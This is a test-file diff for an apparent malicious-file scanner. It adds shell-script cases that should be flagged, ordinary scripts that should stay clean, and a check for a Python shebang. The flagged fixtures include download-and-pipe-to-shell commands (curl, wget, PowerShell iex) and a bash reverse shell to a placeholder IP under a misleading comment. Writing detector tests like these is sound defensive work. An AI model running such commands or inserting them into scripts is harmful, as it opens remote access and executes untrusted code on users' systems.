@@ -105,3 +105,34 @@ describe('templates by markup and by name', () => {
     expect(r.findings.filter((f) => f.severity !== 'info')).toEqual([]);
   });
 });
+
+describe('shell scripts', () => {
+  it.each([
+    ['setup.sh', 'set -e\npip install -r requirements.txt\ncurl -fsSL https://example.invalid/i.sh | bash\n', 'python/download-to-shell'],
+    ['run', '#!/usr/bin/env bash\n# start the server\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n', 'python/reverse-shell'],
+    ['get.sh', 'wget -q https://example.invalid/x \\\n  -O - | sh\n', 'python/download-to-shell'],
+    ['install.ps1', 'iwr -useb https://example.invalid/x.ps1 | iex\n', 'python/download-to-shell'],
+  ])('judges %s by the commands it runs', async (name, text, rule) => {
+    const r = await scanBytes(Buffer.from(text), { name });
+    expect(r.format).toBe('shell-script');
+    expect(r.verdict).toBe('malicious');
+    expect(rules(r)).toContain(rule);
+  });
+
+  it.each([
+    [
+      'download.sh',
+      '#!/bin/sh\nset -eu\nhuggingface-cli download org/model --local-dir ./model\ncurl -L -o weights.bin https://example.invalid/w.bin\nsha256sum -c SHA256SUMS\n',
+    ],
+    ['train.sh', '#!/bin/bash\npython train.py \\\n  --epochs 3 \\\n  --lr 1e-4\n'],
+  ])('keeps an ordinary script clean: %s', async (name, text) => {
+    const r = await scanBytes(Buffer.from(text), { name });
+    expect(r.format).toBe('shell-script');
+    expect(r.verdict).toBe('clean');
+  });
+
+  it('does not take a Python script with a shebang for a shell script', async () => {
+    const r = await scanBytes(Buffer.from('#!/usr/bin/env python3\nimport sys\nprint(sys.argv)\n'), { name: 'run' });
+    expect(r.format).toBe('python');
+  });
+});
